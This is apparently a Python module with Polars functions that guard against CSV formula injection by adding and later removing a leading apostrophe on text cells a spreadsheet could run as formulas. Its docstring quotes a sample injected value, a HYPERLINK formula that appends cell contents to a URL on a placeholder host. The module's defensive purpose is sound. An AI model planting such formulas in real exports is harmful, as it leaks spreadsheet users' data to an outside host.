"""Tables on their way into CSV files, which people open in spreadsheets.

What belongs here: making text inert that a spreadsheet would run, and taking that back. What does not: other exits (``base/escapes.py``).

The id of a conversation is whatever its source says, also ``=HYPERLINK("https://example.org/?"&A1)``.
"""

from __future__ import annotations

import polars as pl

_FORMULA = r"^(?:[\s\p{C}]*[=+\-@|%'\x{ff1d}\x{ff0b}\x{ff0d}\x{ff20}]|[\t\r\n])"
"""How a cell begins that a spreadsheet may take for a formula, for Polars; the apostrophe, so that taking one away is exact."""


def to_sheet(frame: pl.DataFrame) -> pl.DataFrame:
    """A table for CSV: an apostrophe before every text that a spreadsheet could take for a formula."""
    return frame.with_columns(
        pl.when(said.str.contains(_FORMULA)).then(pl.lit("'") + said).otherwise(said).alias(name) for name, said in _texts(frame)
    )


def from_sheet(frame: pl.DataFrame) -> pl.DataFrame:
    """A table from CSV without the apostrophes of ``to_sheet``; other apostrophes stay."""
    return frame.with_columns(
        pl.when(said.str.starts_with("'") & said.str.slice(1).str.contains(_FORMULA)).then(said.str.slice(1)).otherwise(said).alias(name)
        for name, said in _texts(frame)
    )


def _texts(frame: pl.DataFrame) -> list[tuple[str, pl.Expr]]:
    return [(name, pl.col(name)) for name, dtype in frame.schema.items() if dtype == pl.String()]
